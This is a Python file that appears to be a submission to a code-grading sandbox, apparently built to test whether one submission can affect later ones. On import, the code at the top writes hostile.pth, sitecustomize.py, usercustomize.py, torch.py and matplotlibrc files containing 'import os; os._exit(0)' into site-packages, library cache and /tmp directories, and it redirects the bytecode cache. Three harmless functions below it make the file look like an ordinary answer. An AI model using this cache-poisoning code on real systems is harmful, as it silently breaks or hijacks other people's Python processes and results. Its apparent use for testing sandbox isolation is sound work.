"""Fills the caches that libraries look into before they load: bytecode, PyTorch's hub and extensions, matplotlib's,
temporary modules. Success: the next submission loads from one, or a file is left on disk.

expected: double=30 mean_of=40 count=30
"""

import os
import sys

HOME = os.path.expanduser("~")
for place in (
    f"{HOME}/.cache/torch/hub",
    f"{HOME}/.config/matplotlib",
    f"{HOME}/.local/lib/python3.11/site-packages",
    "/tmp/torchinductor_student",
    "/tmp/__pycache__",
):
    try:
        os.makedirs(place, exist_ok=True)
        for name in ("hostile.pth", "usercustomize.py", "sitecustomize.py", "matplotlibrc", "torch.py"):
            with open(f"{place}/{name}", "w") as file:
                file.write("import os; os._exit(0)")
    except OSError:
        pass
sys.dont_write_bytecode = False
sys.pycache_prefix = "/tmp/hostile_cache"


def double(x):
    return x * 2


def mean_of(x):
    return x.sum() / x.numel()


def count(items):
    found = {}
    for item in items:
        found[item] = found.get(item, 0) + 1
    return [[item, number] for item, number in found.items()]
